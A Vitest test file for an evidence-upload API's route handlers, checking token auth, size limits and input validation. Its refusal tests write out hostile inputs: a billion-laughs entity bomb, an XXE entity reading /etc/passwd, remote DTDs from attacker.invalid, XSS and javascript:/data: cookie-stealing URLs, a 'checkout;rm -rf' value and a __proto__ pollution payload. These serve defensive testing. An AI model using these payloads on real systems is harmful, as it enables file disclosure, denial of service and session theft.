import { readFileSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { getPrisma } from "../lib/db/client";
import type { PrismaClient } from "../lib/generated/prisma/client";
import { createTestDatabase, type TestDatabase } from "../lib/testing/database";
import { writeTempConfig } from "../lib/testing/worker-process";
import { createToken, revokeToken } from "../lib/tokens/store";
import { generateToken } from "../lib/tokens/token";

// POST /api/v1/evidence/{junit,k6,chaos,attestations} through the route handlers themselves, on a real database:
// what CI sends is stored with the figures it carries, and anything else (no token, the wrong token, hostile XML,
// wrong-shaped JSON, oversized or undecodable bodies) is answered with a status and a message naming what is wrong,
// with not one row written.

const MAX_UPLOAD_BYTES = 65_536;

const CONFIG = `version: 1
system: { name: evidence-api-test }
defaults: { interval: 1h, timeout: 5s }
components:
  - { id: api, name: API, service: Node, probe: { type: tcp, host: 127.0.0.1, port: 9 } }
evidence: { maxUploadBytes: ${MAX_UPLOAD_BYTES} }
scorecard:
  categories:
    - id: quality
      name: Quality
      checks:
        - { id: gateway-tests, name: Gateway tests pass, kind: testSuite, suite: gateway, minPassRatePct: 95 }
        - { id: checkout-load, name: Checkout load test, kind: loadTest, test: checkout }
        - { id: api-pod-delete, name: API survives a pod delete, kind: chaos, experiment: api-pod-delete-pod-delete, maxRecovery: 1m }
        - { id: backup-restore, name: Backup restore rehearsed, kind: attestation, question: Has a backup been restored this quarter? }
`;

type TRoute = "junit" | "k6" | "chaos" | "attestations";
type THandler = (request: Request) => Promise<Response>;

let database: TestDatabase;
let prisma: PrismaClient;
let handlers: Record<TRoute, THandler>;
const savedEnv = { ...process.env };
const tokens = { writer: "", reader: "", revoked: "" };

beforeAll(async () => {
  database = await createTestDatabase("pf_evidence_api");
  // The handlers read their database and configuration from the environment, once: set it before they load.
  Object.assign(process.env, {
    DATABASE_URL: database.url,
    PREFLIGHT_CONFIG: writeTempConfig(CONFIG).path,
    PREFLIGHT_EMBEDDED_WORKER: "false",
    REDIS_URL: "",
  });
  handlers = {
    junit: (await import("../app/api/v1/evidence/junit/route")).POST,
    k6: (await import("../app/api/v1/evidence/k6/route")).POST,
    chaos: (await import("../app/api/v1/evidence/chaos/route")).POST,
    attestations: (await import("../app/api/v1/evidence/attestations/route")).POST,
  };
  prisma = getPrisma();
  tokens.writer = (await createToken(prisma, { name: "ci", scopes: ["evidence:write"], createdBy: "test" })).token;
  tokens.reader = (
    await createToken(prisma, { name: "dashboard-reader", scopes: ["readiness:read"], createdBy: "test" })
  ).token;
  tokens.revoked = (await createToken(prisma, { name: "old-ci", scopes: ["evidence:write"], createdBy: "test" })).token;
  await revokeToken(prisma, "old-ci");
});

afterAll(async () => {
  await prisma.$disconnect();
  delete (globalThis as { preflightPrisma?: unknown }).preflightPrisma;
  await database.drop();
  process.env = savedEnv;
});

// --- requests and what they leave behind ---

type TSendOptions = { query?: string; token?: string | null; headers?: Record<string, string> };

/** What CI sends: the Content-Type each endpoint reads, unless a test says otherwise. */
const CONTENT_TYPE: Record<TRoute, string> = {
  junit: "application/xml",
  k6: "application/json",
  chaos: "application/json",
  attestations: "application/json",
};

function buildRequest(
  route: TRoute,
  body: BodyInit | null,
  { query = "", token = tokens.writer, headers = {} }: TSendOptions = {},
): Request {
  // A FormData body brings its own multipart Content-Type.
  const type = body instanceof FormData ? {} : { "content-type": CONTENT_TYPE[route] };
  return new Request(`http://preflight.test/api/v1/evidence/${route}${query ? `?${query}` : ""}`, {
    method: "POST",
    headers: { ...type, ...(token === null ? {} : { authorization: `Bearer ${token}` }), ...headers },
    body,
    // Needed for a ReadableStream body; ignored for the others.
    duplex: "half",
  } as RequestInit);
}

function send(route: TRoute, body: BodyInit | null, options?: TSendOptions): Promise<Response> {
  return handlers[route](buildRequest(route, body, options));
}

/** Rows of every table a push could write to, including the readiness snapshot a stored push triggers. */
async function countRows() {
  const [testRun, loadTestRun, chaosRun, attestation, readinessSnapshot] = await Promise.all([
    prisma.testRun.count(),
    prisma.loadTestRun.count(),
    prisma.chaosRun.count(),
    prisma.attestation.count(),
    prisma.readinessSnapshot.count(),
  ]);
  return {
    test_run: testRun,
    load_test_run: loadTestRun,
    chaos_run: chaosRun,
    attestation,
    readiness_snapshot: readinessSnapshot,
  };
}

/** Sends the request and checks that it is refused with `status` and a message containing `error`, storing nothing. */
async function expectRefused(push: () => Promise<Response>, status: number, error: string): Promise<string> {
  const before = await countRows();
  const response = await push();
  const text = await response.text();
  expect({ status: response.status, error: (JSON.parse(text) as { error?: unknown }).error }).toEqual({
    status,
    error: expect.stringContaining(error),
  });
  expect(response.headers.get("cache-control")).toBe("no-store");
  expect(await countRows()).toEqual(before);
  return text;
}

type TAccepted = {
  id: string;
  kind: string;
  summary: Record<string, unknown>;
  readiness: { overallPct: number | null; blockers: number; snapshot: string | null } | null;
};

async function expectStored(response: Response): Promise<TAccepted> {
  const body = (await response.json()) as TAccepted;
  expect(response.status, JSON.stringify(body)).toBe(201);
  return body;
}

// --- payloads ---

const fixture = (name: string) => readFileSync(new URL(`../lib/evidence/fixtures/${name}`, import.meta.url), "utf8");
const fixtureJson = (name: string) => JSON.parse(fixture(name)) as Record<string, unknown>;
const minutesFromNow = (minutes: number) => new Date(Date.now() + minutes * 60_000).toISOString();

const JUNIT_QUERY = "suite=gateway&kind=integration";
const VALID_JUNIT = `<testsuite name="gateway"><testcase name="a"/><testcase name="b"/></testsuite>`;
const validK6 = () => fixtureJson("k6-summary-export.json");
const validChaos = () => ({
  name: "api-pod-delete-pod-delete",
  fault: "pod-delete",
  target: "api",
  startedAt: minutesFromNow(-10),
  endedAt: minutesFromNow(-8),
});
const validAttestation = () => ({
  check: "backup-restore",
  answer: "yes",
  evidenceUrl: "https://wiki.example.com/runbooks/restore-2026-q4",
  expiresAt: minutesFromNow(90 * 24 * 60),
});
const litmus = (status?: { phase: string; verdict: string }) => {
  const result = fixtureJson("litmus-chaosresult-pod-delete.json");
  return status ? { ...result, status: { experimentStatus: { ...status, probeSuccessPercentage: "0" } } } : result;
};

/** A valid push for each route, sent with whatever token a test gives. */
const VALID: Record<TRoute, { body: () => string; query: string }> = {
  junit: { body: () => VALID_JUNIT, query: JUNIT_QUERY },
  k6: { body: () => JSON.stringify(validK6()), query: "test=checkout" },
  chaos: { body: () => JSON.stringify(validChaos()), query: "" },
  attestations: { body: () => JSON.stringify(validAttestation()), query: "" },
};
const ROUTES = Object.keys(VALID) as TRoute[];

const DOCTYPE_REFUSED = "DOCTYPE and entities are not accepted";

// --- tests ---

describe("the token", () => {
  const cases: [string, () => string | null, number, string][] = [
    ["no Authorization header is 401", () => null, 401, "missing Authorization header"],
    [
      "a Basic header is 401",
      () => `Basic ${Buffer.from("ci:secret").toString("base64")}`,
      401,
      "expected `Authorization: Bearer pf_…`",
    ],
    [
      "a bearer that is not a Preflight token is 401",
      () => "Bearer eyJhbGciOiJIUzI1NiJ9.e30.x",
      401,
      "not a Preflight token",
    ],
    ["a well-formed pf_ token that was never issued is 401", () => `Bearer ${generateToken()}`, 401, "unknown token"],
    ["a revoked token is 401", () => `Bearer ${tokens.revoked}`, 401, 'token "old-ci" was revoked'],
    [
      "a token with only readiness:read is 403",
      () => `Bearer ${tokens.reader}`,
      403,
      'token "dashboard-reader" lacks the evidence:write scope',
    ],
  ];

  describe.each(ROUTES)("on /%s, even with a valid body", (route) => {
    it.each(cases)("%s and stores nothing", async (_name, header, status, error) => {
      const authorization = header();
      const text = await expectRefused(
        () =>
          send(route, VALID[route].body(), {
            query: VALID[route].query,
            token: null,
            headers: authorization === null ? {} : { authorization },
          }),
        status,
        error,
      );
      for (const token of Object.values(tokens)) expect(text).not.toContain(token);
      if (authorization !== null) expect(text).not.toContain(authorization.replace(/^\w+ /, ""));
    });
  });

  it("is checked before a byte of the body is read", async () => {
    let pulls = 0;
    const body = new ReadableStream<Uint8Array>(
      { pull: (controller) => void (pulls++, controller.enqueue(new TextEncoder().encode(VALID_JUNIT))) },
      { highWaterMark: 0 },
    );
    await expectRefused(
      () => send("junit", body, { query: JUNIT_QUERY, token: null }),
      401,
      "missing Authorization header",
    );
    expect(pulls).toBe(0);
  });

  it("is checked before the size: an anonymous oversized upload is 401, not 413", async () => {
    await expectRefused(
      () => send("junit", "x".repeat(MAX_UPLOAD_BYTES + 1), { query: JUNIT_QUERY, token: generateToken() }),
      401,
      "unknown token",
    );
  });
});

describe("accepted evidence", () => {
  it("stores a Surefire report with reruns: flaky tests counted as passes and listed, and answers with the readiness", async () => {
    const response = await send("junit", fixture("junit-surefire-flaky.xml"), { query: JUNIT_QUERY });
    const { id, kind, summary, readiness } = await expectStored(response);
    expect(kind).toBe("junit");
    expect(summary).toMatchObject({
      suite: "gateway",
      kind: "integration",
      tests: 7,
      passed: 2,
      failed: 1,
      errors: 1,
      skipped: 1,
      flaky: 2,
    });
    const row = await prisma.testRun.findUniqueOrThrow({ where: { id: BigInt(id) } });
    expect(row).toMatchObject({
      suite: "gateway",
      kind: "integration",
      source: "token ci",
      tests: 7,
      passed: 2,
      failed: 1,
      errors: 1,
      skipped: 1,
      flaky: 2,
    });
    expect(row.passRatePct).toBeCloseTo((4 / 6) * 100, 10);
    expect(row.flakyTests).toHaveLength(2);
    expect(readiness).toEqual({
      overallPct: expect.any(Number),
      blockers: expect.any(Number),
      snapshot: expect.stringMatching(/^[0-9a-f]{64}$/),
    });
  });

  it.each([
    ["node --test", "junit-node-test-runner.xml", 7],
    ["vitest", "junit-vitest.xml", 6],
    ["pytest xunit1", "junit-pytest-xunit1.xml", 9],
    ["pytest xunit2", "junit-pytest-xunit2.xml", 9],
  ])("stores a %s report as it counts it", async (_tool, file, tests) => {
    const { id, summary } = await expectStored(
      await send("junit", fixture(file), { query: "suite=unit tests/node-20&kind=unit" }),
    );
    expect(summary.tests).toBe(tests);
    expect(await prisma.testRun.findUniqueOrThrow({ where: { id: BigInt(id) } })).toMatchObject({
      tests,
      suite: "unit tests/node-20",
      kind: "unit",
    });
  });

  it("accepts a report of exactly the size limit", async () => {
    const open = `<testsuite name="gateway"><testcase name="a"/></testsuite><!--`;
    const xml = `${open}${" ".repeat(MAX_UPLOAD_BYTES - open.length - 3)}-->`;
    expect(Buffer.byteLength(xml)).toBe(MAX_UPLOAD_BYTES);
    await expectStored(
      await send("junit", xml, { query: JUNIT_QUERY, headers: { "content-length": String(MAX_UPLOAD_BYTES) } }),
    );
  });

  it("stores a --summary-export k6 summary with its thresholds' verdict (true there means crossed)", async () => {
    const { id, summary, readiness } = await expectStored(
      await send("k6", JSON.stringify(validK6()), {
        query: "test=checkout",
        headers: { "content-type": "application/json" },
      }),
    );
    expect(summary).toMatchObject({
      test: "checkout",
      shape: "summary-export",
      p95Ms: 191.5624,
      allThresholdsPassed: false,
    });
    expect(summary.thresholds).toContainEqual(
      expect.objectContaining({ metric: "checks", name: "rate>0.98", passed: true }),
    );
    const row = await prisma.loadTestRun.findUniqueOrThrow({ where: { id: BigInt(id) } });
    expect(row).toMatchObject({
      test: "checkout",
      shape: "summary-export",
      p95Ms: 191.5624,
      p99Ms: 402.8765,
      allThresholdsPassed: false,
      checksPassed: 10694,
      checksFailed: 130,
      durationS: null,
    });
    expect(readiness).not.toBeNull();
  });

  it.each([
    ["handleSummary", "k6-handle-summary.json"],
    ["machine-readable", "k6-machine-readable.json"],
  ])("stores a k6 summary in the %s shape", async (shape, file) => {
    const { id } = await expectStored(await send("k6", fixture(file), { query: "test=checkout" }));
    expect(await prisma.loadTestRun.findUniqueOrThrow({ where: { id: BigInt(id) } })).toMatchObject({
      shape,
      p95Ms: 191.5624,
    });
  });

  it("stores a chaos experiment", async () => {
    const experiment = { ...validChaos(), expectedRecoveryS: 30 };
    const { id, readiness } = await expectStored(await send("chaos", JSON.stringify(experiment)));
    const row = await prisma.chaosRun.findUniqueOrThrow({ where: { id: BigInt(id) } });
    expect(row).toMatchObject({
      name: experiment.name,
      fault: "pod-delete",
      target: "api",
      expectedRecoveryS: 30,
      verdict: null,
      source: "token ci",
    });
    expect(row.startedAt.toISOString()).toBe(experiment.startedAt);
    expect(row.endedAt.toISOString()).toBe(experiment.endedAt);
    expect(readiness).not.toBeNull();
  });

  it("stores a Litmus ChaosResult for the component named in ?target=, timed from its metadata", async () => {
    const { id } = await expectStored(await send("chaos", JSON.stringify(litmus()), { query: "target=api" }));
    const row = await prisma.chaosRun.findUniqueOrThrow({ where: { id: BigInt(id) } });
    expect(row).toMatchObject({
      name: "api-pod-delete-pod-delete",
      fault: "pod-delete",
      target: "api",
      verdict: "Pass",
    });
    expect([row.startedAt.toISOString(), row.endedAt.toISOString()]).toEqual([
      "2026-11-26T13:58:04.000Z",
      "2026-11-26T13:59:41.000Z",
    ]);
  });

  it("stores an attestation, attested by the pipeline's token unless the body names someone", async () => {
    const input = validAttestation();
    const first = await expectStored(await send("attestations", JSON.stringify(input)));
    expect(await prisma.attestation.findUniqueOrThrow({ where: { id: BigInt(first.id) } })).toMatchObject({
      checkId: "backup-restore",
      answer: "yes",
      evidenceUrl: input.evidenceUrl,
      comment: "",
      attestedBy: "pipeline (token ci)",
      expiresAt: new Date(input.expiresAt),
      source: "token ci",
    });
    const second = await expectStored(
      await send(
        "attestations",
        JSON.stringify({ ...input, answer: "no", comment: "restore took 3 h", attestedBy: "ops@example.com" }),
      ),
    );
    expect(await prisma.attestation.findUniqueOrThrow({ where: { id: BigInt(second.id) } })).toMatchObject({
      answer: "no",
      comment: "restore took 3 h",
      attestedBy: "ops@example.com",
    });
    expect(second.readiness).not.toBeNull();
  });
});

describe("JUnit reports refused", () => {
  const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<testsuite name="&lol9;"><testcase name="&lol9;"/></testsuite>`;

  it.each([
    ["a billion-laughs entity bomb", BILLION_LAUGHS, DOCTYPE_REFUSED, 422],
    [
      "an external entity reading /etc/passwd (XXE)",
      `<!DOCTYPE testsuite [<!ENTITY x SYSTEM "file:///etc/passwd">]><testsuite><testcase name="&x;"/></testsuite>`,
      DOCTYPE_REFUSED,
      422,
    ],
    [
      "an external DTD",
      `<?xml version="1.0"?><!DOCTYPE testsuite SYSTEM "http://attacker.invalid/junit.dtd"><testsuite><testcase name="a"/></testsuite>`,
      DOCTYPE_REFUSED,
      422,
    ],
    [
      "a parameter entity fetching a remote DTD",
      `<!DOCTYPE testsuite [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]><testsuite><testcase name="a"/></testsuite>`,
      DOCTYPE_REFUSED,
      422,
    ],
    [
      "a truncated report",
      `<testsuites>\n<testsuite name="gateway">\n<testcase name="a"><failure>boom`,
      "the document ends while <testsuites>, <testsuite>, <testcase>, <failure> are still open (truncated?)",
      400,
    ],
    [
      "an HTML error page instead of the report",
      `<html><head><title>502 Bad Gateway</title></head><body>nginx</body></html>`,
      "expected JUnit XML, got an HTML page",
      400,
    ],
    [
      "a document with the wrong root element",
      `<results><test name="a"/></results>`,
      "expected <testsuites> or <testsuite> as the root element, got <results>",
      422,
    ],
    [
      "two root elements",
      `<testsuite><testcase name="a"/></testsuite><testsuite><testcase name="b"/></testsuite>`,
      "Multiple possible root nodes found",
      400,
    ],
    [
      "a report with no testcase at all",
      `<testsuites><testsuite name="gateway" tests="0"/></testsuites>`,
      "the report has no <testcase> elements: nothing to count",
      422,
    ],
    ["a k6 summary sent to the JUnit endpoint", JSON.stringify({ metrics: {} }), "expected JUnit XML, got JSON", 400],
    [
      "element names that would pollute Object.prototype",
      `<testsuite><__proto__><polluted>yes</polluted></__proto__><testcase name="a"/></testsuite>`,
      '"__proto__" is a reserved JavaScript keyword',
      400,
    ],
  ])("%s", async (_name, xml, error, status) => {
    await expectRefused(() => send("junit", xml, { query: JUNIT_QUERY }), status, error);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it.each([
    ["no ?suite=", "kind=unit", "the suite name (?suite=) is required"],
    ["an empty ?suite=", "suite=&kind=unit", "the suite name (?suite=) is required"],
    [
      "a suite name with markup in it",
      `suite=${encodeURIComponent("<script>alert(1)</script>")}&kind=unit`,
      'invalid suite name (?suite=) "<script>alert(1)</script>": expected 1-100 letters',
    ],
    [
      "a suite name with a newline (log injection)",
      `suite=${encodeURIComponent("gateway\nERROR forged line")}&kind=unit`,
      "invalid suite name (?suite=)",
    ],
    [
      "a suite name of 101 characters",
      `suite=${"a".repeat(101)}&kind=unit`,
      "expected 1-100 letters, digits, spaces or . _ : / @ + -",
    ],
    [
      "no ?kind=",
      "suite=gateway",
      "the kind (?kind=) is required: expected one of unit, integration, security, performance, e2e",
    ],
    [
      "an unknown ?kind=",
      "suite=gateway&kind=smoke",
      'invalid kind "smoke": expected one of unit, integration, security, performance, e2e',
    ],
    ["a ?kind= in the wrong case", "suite=gateway&kind=Unit", 'invalid kind "Unit"'],
  ])("a valid report with %s", async (_name, query, error) => {
    await expectRefused(() => send("junit", VALID_JUNIT, { query }), 422, error);
  });
});

describe("bodies refused before any parser sees them", () => {
  it.each(ROUTES)(
    "/%s refuses a declared Content-Length over the limit with 413, without reading the body",
    async (route) => {
      let pulls = 0;
      const body = new ReadableStream<Uint8Array>(
        { pull: (controller) => void (pulls++, controller.close()) },
        { highWaterMark: 0 },
      );
      await expectRefused(
        () =>
          send(route, body, { query: VALID[route].query, headers: { "content-length": String(MAX_UPLOAD_BYTES + 1) } }),
        413,
        "the body is larger than the 64 KiB limit",
      );
      expect(pulls).toBe(0);
    },
  );

  it("refuses a chunked body with no Content-Length once it passes the limit, without reading the rest (413)", async () => {
    const chunk = new TextEncoder().encode(`<testcase name="${"x".repeat(8_000)}"/>`);
    let pulls = 0;
    const body = new ReadableStream<Uint8Array>(
      { pull: (controller) => void (++pulls === 1000 ? controller.close() : controller.enqueue(chunk)) },
      { highWaterMark: 0 },
    );
    await expectRefused(
      () => send("junit", body, { query: JUNIT_QUERY }),
      413,
      "the body is larger than the 64 KiB limit",
    );
    expect(pulls).toBeLessThanOrEqual(Math.ceil(MAX_UPLOAD_BYTES / chunk.byteLength) + 1);
  });

  it("refuses a body larger than its lying Content-Length says (413)", async () => {
    const xml = `<testsuite name="gateway"><testcase name="a"/></testsuite><!--${"x".repeat(MAX_UPLOAD_BYTES)}-->`;
    await expectRefused(
      () => send("junit", xml, { query: JUNIT_QUERY, headers: { "content-length": "100" } }),
      413,
      "the body is larger than the 64 KiB limit",
    );
  });

  it.each(ROUTES)(
    "/%s refuses a multipart form upload with 415, saying to send the file as the body",
    async (route) => {
      const form = new FormData();
      form.set("file", new Blob([VALID[route].body()]), "report");
      await expectRefused(() => send(route, form, { query: VALID[route].query }), 415, "not as a multipart form");
    },
  );

  it.each([
    ["no body at all", null],
    ["a zero-length body", ""],
  ])("refuses %s with 400", async (_name, body) => {
    await expectRefused(() => send("junit", body, { query: JUNIT_QUERY }), 400, "the body is empty");
  });

  it("names an empty report as such when the body is only whitespace", async () => {
    await expectRefused(() => send("junit", " \n\t", { query: JUNIT_QUERY }), 400, "the report is empty");
  });

  it.each([
    ["Latin-1 bytes", Buffer.from(`<testsuite name="caf\u00e9"><testcase name="a"/></testsuite>`, "latin1")],
    [
      "a UTF-16 report with a byte-order mark",
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(VALID_JUNIT, "utf16le")]),
    ],
    ["bytes that are no text at all", Buffer.from([0x3c, 0xc3, 0x28, 0xa0, 0xa1, 0xf0, 0x28, 0x8c, 0xbc])],
  ])("refuses %s as not UTF-8 (400)", async (_name, bytes) => {
    await expectRefused(
      () => send("junit", new Uint8Array(bytes), { query: JUNIT_QUERY }),
      400,
      "the body is not UTF-8: byte 0x",
    );
  });
});

describe("k6 summaries refused", () => {
  const summary = validK6() as { root_group: unknown; metrics: Record<string, Record<string, unknown>> };
  const withMetric = (name: string, value: unknown) =>
    JSON.stringify({ ...summary, metrics: { ...summary.metrics, [name]: value } });

  it.each([
    ["text that is not JSON", "p(95)=191ms", "the body is not valid JSON"],
    ["a summary cut off mid-way", JSON.stringify(summary).slice(0, 500), "the body is not valid JSON"],
    ["a JSON array", "[]", "expected a k6 summary object, got an array"],
    ["a JSON string", '"metrics"', "expected a k6 summary object, got a string"],
    ["JSON null", "null", "expected a k6 summary object, got null"],
    [
      "a summary JSON-encoded twice, as a string",
      JSON.stringify(JSON.stringify(summary)),
      "expected a k6 summary object, got a string",
    ],
    [
      "an object without metrics",
      JSON.stringify({ root_group: summary.root_group }),
      'expected a k6 summary: handleSummary() data or --summary-export output (with "metrics")',
    ],
    [
      "a summary with no HTTP request durations",
      JSON.stringify({ metrics: { checks: summary.metrics.checks } }),
      "metrics.http_req_duration: missing: the summary has no HTTP request durations",
    ],
    [
      "a P95 given as a string",
      withMetric("http_req_duration", { ...summary.metrics.http_req_duration, "p(95)": "191ms" }),
      'metrics.http_req_duration["p(95)"]: expected number, received string',
    ],
    [
      "a negative latency",
      withMetric("http_req_duration", { ...summary.metrics.http_req_duration, avg: -1 }),
      "metrics.http_req_duration.avg: Too small",
    ],
    [
      "an error rate above 100 %",
      withMetric("http_req_failed", { ...summary.metrics.http_req_failed, value: 3 }),
      "metrics.http_req_failed.value: Too big",
    ],
    [
      "a machine-readable summary of an unknown major version",
      JSON.stringify({ ...fixtureJson("k6-machine-readable.json"), version: "2.0.0" }),
      "unsupported machine-readable summary version 2.0.0",
    ],
  ])("%s", async (_name, body, error) => {
    await expectRefused(
      () => send("k6", body, { query: "test=checkout" }),
      error.startsWith("the body is not valid JSON") ? 400 : 422,
      error,
    );
  });

  it.each([
    ["no ?test=", "", "the load-test name (?test=) is required"],
    [
      "a ?test= with a shell metacharacter",
      "test=checkout%3Brm%20-rf",
      'invalid load-test name (?test=) "checkout;rm -rf"',
    ],
  ])("a valid summary with %s", async (_name, query, error) => {
    await expectRefused(() => send("k6", JSON.stringify(summary), { query }), 422, error);
  });
});

describe("chaos experiments refused", () => {
  it.each([
    ["a JSON array", [validChaos()], "", "expected a chaos experiment object or a Litmus ChaosResult, got an array"],
    [
      "an unknown target component",
      { ...validChaos(), target: "payments" },
      "",
      'no component with id "payments": the target must be one of api',
    ],
    [
      "a target that is not an id",
      { ...validChaos(), target: "API Server" },
      "",
      "invalid chaos experiment: target: expected an id of lowercase letters",
    ],
    [
      "endedAt before startedAt",
      { ...validChaos(), startedAt: minutesFromNow(-5), endedAt: minutesFromNow(-10) },
      "",
      "invalid chaos experiment: endedAt: endedAt is before startedAt",
    ],
    [
      "endedAt a day in the future",
      { ...validChaos(), endedAt: minutesFromNow(24 * 60) },
      "",
      "is in the future: send the experiment once the fault has ended",
    ],
    [
      "a time without a zone",
      { ...validChaos(), startedAt: "2026-11-26 13:58:04" },
      "",
      "invalid chaos experiment: startedAt: expected an ISO 8601 time with a zone",
    ],
    [
      "wrong types",
      { ...validChaos(), name: 42, startedAt: Date.now() },
      "",
      "invalid chaos experiment: name: expected string, received number (and 1 more)",
    ],
    ["no fields at all", {}, "", "invalid chaos experiment: name:"],
    [
      "a Litmus ChaosResult without ?target=",
      litmus(),
      "",
      "a Litmus ChaosResult needs the target component: add ?target=COMPONENT_ID",
    ],
    ["a Litmus ChaosResult for an unknown component", litmus(), "target=payments", 'no component with id "payments"'],
    [
      "a Litmus ChaosResult still running",
      litmus({ phase: "Running", verdict: "Awaited" }),
      "target=api",
      "has not finished (phase Running, verdict Awaited)",
    ],
    [
      "a Litmus ChaosResult completed but still Awaited",
      litmus({ phase: "Completed", verdict: "Awaited" }),
      "target=api",
      "has not finished (phase Completed, verdict Awaited)",
    ],
    [
      "a Litmus ChaosResult with an unknown verdict",
      litmus({ phase: "Completed", verdict: "Passed" }),
      "target=api",
      "status.experimentStatus.verdict: expected verdict Pass, Fail, Stopped, Awaited or Error",
    ],
    [
      "a Litmus ChaosResult with no end time",
      { ...litmus(), metadata: { name: "api-pod-delete-pod-delete", creationTimestamp: "2026-11-26T13:58:04Z" } },
      "target=api",
      "has no end time",
    ],
  ])("%s", async (_name, body, query, error) => {
    await expectRefused(() => send("chaos", JSON.stringify(body), { query }), 422, error);
  });
});

describe("attestations refused", () => {
  it.each([
    [
      "a check the scorecard does not have",
      { ...validAttestation(), check: "pen-test" },
      'no attestation check "pen-test" in the scorecard: expected one of backup-restore',
    ],
    [
      "a check that is not an attestation",
      { ...validAttestation(), check: "gateway-tests" },
      'no attestation check "gateway-tests" in the scorecard',
    ],
    [
      'the answer "maybe"',
      { ...validAttestation(), answer: "maybe" },
      'invalid attestation: answer: expected "yes" or "no"',
    ],
    [
      "a javascript: evidence URL",
      { ...validAttestation(), evidenceUrl: "javascript:alert(document.cookie)" },
      "invalid attestation: evidenceUrl: expected an http or https URL",
    ],
    [
      "a data: evidence URL",
      { ...validAttestation(), evidenceUrl: "data:text/html,<script>alert(1)</script>" },
      "evidenceUrl: expected an http or https URL",
    ],
    [
      "an expiry in the past",
      { ...validAttestation(), expiresAt: minutesFromNow(-1) },
      "invalid attestation: expiresAt: expected a time after",
    ],
    [
      "an expiry that is not a time",
      { ...validAttestation(), expiresAt: "next quarter" },
      "expiresAt: expected an ISO 8601 time with a zone",
    ],
    ["no fields at all", {}, "invalid attestation: check: expected the check's id"],
    ["JSON null", null, "expected an attestation object, got null"],
  ])("%s", async (_name, body, error) => {
    await expectRefused(() => send("attestations", JSON.stringify(body)), 422, error);
  });

  it("refuses a body that is not JSON", async () => {
    await expectRefused(
      () => send("attestations", "check=backup-restore&answer=yes"),
      400,
      "the body is not valid JSON",
    );
  });
});
